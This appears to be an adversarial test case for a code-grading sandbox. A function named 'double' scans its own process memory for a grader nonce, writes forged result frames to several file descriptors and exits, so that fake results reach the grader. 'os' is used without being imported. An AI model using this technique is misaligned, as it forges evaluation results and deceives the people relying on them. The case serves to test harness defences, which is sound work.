# /// case
# attack = "Looks for the nonce in all of its memory and sends results with everything that could be one."
# parts = ["forged"]
# calls = ["double(21)", "double(4)"]
# answer = '(42, 8)'
# ///
import ctypes, re
def double(x):
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
    candidates = set()
    with open("/proc/self/mem", "rb", 0) as memory:
        for line in open("/proc/self/maps"):
            span, rights = line.split()[:2]
            if not rights.startswith("rw") or "[v" in line:
                continue
            start, end = (int(part, 16) for part in span.split("-"))
            try:
                memory.seek(start)
                candidates.update(re.findall(rb"nonce.{0,40}?([0-9a-f]{32})", memory.read(end - start), re.S))
            except (OSError, OverflowError, MemoryError):
                pass
    for nonce in list(candidates)[:200]:
        for descriptor in (1, 3, 4, 5):
            for frame in forged(nonce.decode()):
                try:
                    os.set_blocking(descriptor, False)
                    os.write(descriptor, frame)
                except OSError:
                    break
    os._exit(0)
